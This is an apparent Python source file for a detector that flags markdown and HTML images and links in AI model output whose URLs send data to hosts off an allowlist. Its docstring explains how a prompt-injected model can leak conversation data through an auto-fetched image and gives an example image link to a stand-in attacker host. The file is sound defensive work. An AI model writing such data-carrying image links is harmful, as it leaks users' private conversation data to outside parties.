"""Data leaving through links and images in model output.

A prompt-injected model can leak conversation data by writing a markdown image whose URL carries
it (`![](https://evil.example/p?q=<data>)`): the chat client fetches the image automatically, so
no click is needed. Links need a click but still carry data. This detector finds markdown images
and links (inline and reference-style) and raw HTML `<img>`/`<a>` whose host is not on the
bundle's allowlist (`setup.allowed_hosts`, `*.example.com` allows subdomains).

Scores: an image to a host off the allowlist is high risk on its own (0.7) and higher when its
URL carries data (0.95); a link carrying data scores 0.7, a plain link 0.2. Code blocks and
inline code are skipped: clients do not render markdown inside them. `detail` names the host and
why the URL looks like it carries data, never the data itself.
"""

from __future__ import annotations

import re
from typing import ClassVar
from urllib.parse import parse_qsl, unquote, urlsplit

from pydantic import BaseModel

from vallum.detectors.base import Detector, DetectorSetup
from vallum.detectors.markup import Ref, html_refs, image_labels, markdown_refs
from vallum.model import Finding, Stage

IMAGE_SCORE = 0.7
IMAGE_WITH_DATA_SCORE = 0.95
LINK_SCORE = 0.2
LINK_WITH_DATA_SCORE = 0.7
DATA_VALUE_MIN = 12
DATA_PATH_SEGMENT_MIN = 24

_FENCE = re.compile(r"```.*?(?:```|\Z)|~~~.*?(?:~~~|\Z)|`[^`\n]+`", re.S)
_MD_REF_DEF = re.compile(r"^[ \t]{0,3}\[([^\]\n]+)\]:[ \t]*<?(\S+?)>?(?:[ \t]+.*)?$", re.M)
_ENCODED = re.compile(r"[A-Za-z0-9+/_-]{20,}={0,2}|(?:%[0-9A-Fa-f]{2}){4,}|[0-9a-fA-F]{24,}")


def host_allowed(host: str, allowed: tuple[str, ...]) -> bool:
    """Whether `host` matches an allowlist entry (`example.com` or `*.example.com`)."""
    host = host.lower().rstrip(".")
    for entry in allowed:
        entry = entry.lower().rstrip(".")
        if entry.startswith("*."):
            if host.endswith(entry[1:]):
                return True
        elif host == entry:
            return True
    return False


def data_reason(url: str) -> str | None:
    """Why a URL looks like it carries data (None if it does not). Never includes the data."""
    parts = urlsplit(url)
    for _, value in parse_qsl(parts.query, keep_blank_values=True):
        if len(value) >= DATA_VALUE_MIN or _ENCODED.search(value):
            return f"query value of {len(value)} chars"
    if parts.query and len(parts.query) >= DATA_VALUE_MIN and "=" not in parts.query:
        return f"query of {len(parts.query)} chars"
    for segment in parts.path.split("/"):
        decoded = unquote(segment)
        if len(segment) >= DATA_PATH_SEGMENT_MIN or _ENCODED.fullmatch(segment):
            return f"path segment of {len(decoded)} chars"
        if " " in decoded and len(decoded) >= DATA_VALUE_MIN:
            return "path segment with encoded text"
    if len(parts.fragment) >= DATA_PATH_SEGMENT_MIN:
        return f"fragment of {len(parts.fragment)} chars"
    return None


class ExfiltrationDetector(Detector):
    """Finds markdown/HTML images and links that send data to hosts off the allowlist."""

    id: ClassVar[str] = "exfiltration"
    version: ClassVar[str] = "1"
    stages: ClassVar[frozenset[Stage]] = frozenset({Stage.OUTPUT, Stage.TOOL_CALL})
    description: ClassVar[str] = (
        "Markdown or HTML images and links whose URL sends data to a host off the allowlist"
    )

    def __init__(self, options: BaseModel | None = None, setup: DetectorSetup | None = None):
        super().__init__(options, setup)
        self._allowed = tuple(self.setup.allowed_hosts)

    def detect(self, text: str, stage: Stage) -> list[Finding]:
        if "](" not in text and "]:" not in text and "][" not in text and "<" not in text:
            return []
        masked = _FENCE.sub(lambda m: " " * len(m.group()), text) if "`" in text else text
        findings = []
        for ref in self._references(masked):
            finding = self._check(ref)
            if finding is not None:
                findings.append(finding)
        findings.sort(key=lambda f: (f.start, f.end))
        return findings

    def _references(self, text: str) -> list[Ref]:
        # Linear in the text whatever it holds (see `markup`): a megabyte of unclosed
        # brackets must not cost minutes.
        refs = markdown_refs(text) if "](" in text else []
        refs += html_refs(text)
        if "]:" in text:
            definitions = {m.group(1).lower(): m for m in _MD_REF_DEF.finditer(text)}
            used_as_image = image_labels(text)
            for label, m in definitions.items():
                refs.append(Ref(m.group(2), m.start(), m.end(), label in used_as_image))
        return refs

    def _check(self, ref: Ref) -> Finding | None:
        url = ref.url.strip()
        if url.startswith("//"):
            url = "https:" + url
        parts = urlsplit(url)
        if parts.scheme.lower() not in ("http", "https", "ftp", "ws", "wss") or not parts.hostname:
            return None  # relative, data:, mailto: and the like fetch nothing remote
        host = parts.hostname
        if host_allowed(host, self._allowed):
            return None
        reason = data_reason(url)
        kind = "markdown_image" if ref.image else "link"
        if ref.image:
            score = IMAGE_WITH_DATA_SCORE if reason else IMAGE_SCORE
        else:
            score = LINK_WITH_DATA_SCORE if reason else LINK_SCORE
        what = "image" if ref.image else "link"
        detail = f"{what} to non-allowlisted host {host}"
        if reason:
            detail += f" carrying data ({reason})"
        return Finding(
            detector=self.id,
            type=f"exfiltration.{kind}",
            score=score,
            start=ref.start,
            end=ref.end,
            labels=(),
            detail=detail,
        )
